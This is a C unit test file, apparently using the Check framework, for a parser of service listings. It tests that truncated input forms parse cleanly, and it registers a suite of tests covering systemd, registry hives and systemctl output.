START_TEST(a_form_cut_anywhere_gives_what_is_before_the_cut)
{
    for (size_t i = 0; i < N_FORMS; i++)
        for (size_t size = 0, whole = strlen(forms[i].text); size <= whole; size++) {
            struct listing *listing;
            const char     *data = forms[i].text;
            size_t          n = size, rows = 0;
            ck_assert_int_eq(listing_new(&listing), 0);
            while (listing_feed(listing, &data, &n) > 0)
                rows++;
            while (listing_end(listing) > 0)
                rows++;
            ck_assert_msg(rows < 10, "%s: %zu rows", forms[i].file, rows);
            listing_free(listing);
        }
}
END_TEST

Suite *make_service_listings_suite(void)
{
    Suite *suite = suite_create("service_listings");
    TCase *tc = tcase_create("forms"), *t = tcase_create("systemd");

    tcase_set_timeout(tc, 60);
    tcase_add_loop_test(tc, every_form_is_read_however_it_is_written, 0, WRITINGS);
    tcase_add_test(tc, several_commands_in_one_file_are_told_apart);
    tcase_add_test(tc, listed_services_are_judged_as_others);
    tcase_add_test(tc, what_is_not_understood_is_counted);
    tcase_add_test(tc, reg_says_what_the_hive_does);
    tcase_add_test(tc, what_the_disk_says_too_is_judged_once);
    tcase_add_test(tc, a_form_cut_anywhere_gives_what_is_before_the_cut);
    suite_add_tcase(suite, tc);
    tcase_set_timeout(t, 60);
    tcase_add_unchecked_fixture(t, boot, halt);
    tcase_add_test(t, systemctl_says_what_the_tables_do);
    suite_add_tcase(suite, t);
    return suite;
}
